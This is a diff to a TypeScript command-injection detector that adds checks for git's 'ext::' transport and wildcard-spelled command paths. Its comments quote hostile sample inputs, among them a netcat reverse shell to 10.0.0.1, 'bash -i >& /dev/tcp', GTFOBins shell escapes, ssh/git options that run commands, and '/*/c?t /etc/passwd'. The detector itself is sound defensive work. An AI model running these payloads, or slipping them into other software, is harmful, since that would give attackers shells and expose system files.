@@ -4,11 +4,12 @@
  * `certutil -urlcache`), a whole value that is a Unix command line (`uname -a`, `whoami`, `perl -e '...'`,
  * `nc -e /bin/sh 10.0.0.1 4444`), and GTFOBins-style invocations anywhere (`bash -i >& /dev/tcp/...`,
  * `find . -exec /bin/sh \;`, `awk 'BEGIN {system("/bin/sh")}'`, `tar --checkpoint-action=exec=...`), ssh and git
- * options that run a command (`-oProxyCommand=id`, `--upload-pack=id`, `-c core.sshCommand=id`) and command paths
- * spelled with glob wildcards (`/???/??t`).
+ * options that run a command (`-oProxyCommand=id`, `--upload-pack=id`, `-c core.sshCommand=id`), git's `ext::`
+ * transport (`ext::sh -c id`) and command paths spelled with glob wildcards (`/???/??t`, `/*\/c?t`).
  * Used by the cmdi detector; every pattern is a fixed shape with bounded gaps.
  */
 import { CH, mayBeRegexSpace } from './char-classes.js';
+import { COMMANDS, globSpellsCommand } from './cmdi-commands.js';
 
 /** A Windows command at the start of the value or right after a separator. */
 export const WINDOWS_COMMAND =
@@ -179,6 +180,38 @@ export const SSH_COMMAND_OPTION = /(?:^|[\s"'=\/])-o[ \t]{0,4}["']?(?:proxycomma
 export const GIT_COMMAND_OPTION =
   /(?:^|[\s"'])(?:--(?:(?:upload|receive)(?:-(?:p(?:a(?:ck?)?)?)?)?|exec)[ \t]{0,4}=|(?:-c|--config)[ \t=]{0,5}["']?core\.(?:sshcommand|gitproxy|fsmonitor|hookspath|pager|editor|askpass)[ \t]{0,4}=)/;
 
+/** A character of a command name after `ext::` (letters, digits, `.`, `_`, `-`, as COMMANDS spells them). */
+function isCommandNameChar(c: number): boolean {
+  return (c >= 97 && c <= 122) || (c >= 48 && c <= 57) || c === 46 || c === 95 || c === 45;
+}
+
+/** What may stand before `ext::` for git to read it as the URL: white space, a quote or the `=` of an option. */
+function mayStartGitUrl(c: number): boolean {
+  return c === 32 || c === 9 || c === 10 || c === 13 || c === 34 || c === 39 || c === 61;
+}
+
+/**
+ * `ext::sh -c touch% /tmp/pwned`, `git clone ext::sh -c id`: git's `ext::` transport (git-remote-ext) runs the
+ * command after `ext::` to talk to the "remote", so a value handed to `git clone`/`git fetch` as a URL runs it (no
+ * shell separator needed). Like GIT_COMMAND_OPTION, `ext::` starts the value or follows white space, a quote or an
+ * option's `=` (`file.ext::note` and `std::ext::foo` are prose and code), and a command of COMMANDS or a path
+ * (`/bin/sh`, `./x`, `~/x`) must follow it: `ext::note` runs nothing an attacker wants. `s` is lower case; reads a
+ * bounded word after each `ext::`, so the scan is linear.
+ */
+export function runsGitExtCommand(s: string): boolean {
+  for (let at = s.indexOf('ext::'); at !== -1; at = s.indexOf('ext::', at + 5)) {
+    if (at > 0 && !mayStartGitUrl(s.charCodeAt(at - 1))) continue;
+    let i = at + 5;
+    for (let spaces = 0; spaces < 4 && (s.charCodeAt(i) === 32 || s.charCodeAt(i) === 9); spaces++) i++;
+    const c = s.charCodeAt(i);
+    if (c === 47 || ((c === 46 || c === 126) && (s.charCodeAt(i + 1) === 47 || s.startsWith('./', i + 1)))) return true;
+    let end = i;
+    while (end - i < 24 && isCommandNameChar(s.charCodeAt(end))) end++;
+    if (end > i && !isCommandNameChar(s.charCodeAt(end)) && COMMANDS.has(s.slice(i, end))) return true;
+  }
+  return false;
+}
+
 /** Characters of a glob-spelled path: letters, digits, `.`, `_`, `-`, the separator `/` and the wildcards `?*[]`. */
 function isGlobPathChar(c: number): boolean {
   return (c >= 97 && c <= 122) || (c >= 48 && c <= 57) || c === 47 || c === 63 || c === 42 || c === 91 || c === 93 || c === 46 || c === 95 || c === 45;
@@ -239,4 +272,29 @@ export function globCommandPath(s: string, at: number): number {
 
 function isAlnum(c: number): boolean {
   return (c >= 97 && c <= 122) || (c >= 48 && c <= 57);
+}
+
+/**
+ * `/*\/c?t /etc/passwd`, `/*\/ca?`, `/*\/*\/who?mi`: a command path at `at` whose first segment is `*` (the shell
+ * expands `/*\/c?t` to `/bin/cat` and whatever else matches, and runs the first), shaped as `globCommandPath` reads
+ * one (two to four segments of `isGlobPathChar`, ended by `endsCommandPath`). A `*` first segment is how URL paths
+ * and file globs start too (`/*\/index.html`, `/*\/*.js`), so the last segment must spell a command of COMMANDS
+ * (`globSpellsCommand`). Reads at most MAX_GLOB_PATH characters.
+ */
+export function starGlobCommandPath(s: string, at: number): boolean {
+  if (s.charCodeAt(at) !== 47 || s.charCodeAt(at + 1) !== 42 || s.charCodeAt(at + 2) !== 47) return false;
+  let segments = 1;
+  let start = at + 3;
+  let i = start;
+  for (; i < s.length && i - at <= MAX_GLOB_PATH; i++) {
+    const c = s.charCodeAt(i);
+    if (!isGlobPathChar(c)) break;
+    if (c === 47) {
+      if (i === start) return false; // `//`: no command path
+      segments++;
+      start = i + 1;
+    } else if (i - start >= 12) return false;
+  }
+  if (i === start || segments > 3 || !endsCommandPath(s.charCodeAt(i))) return false;
+  return globSpellsCommand(s.slice(start, i));
 }
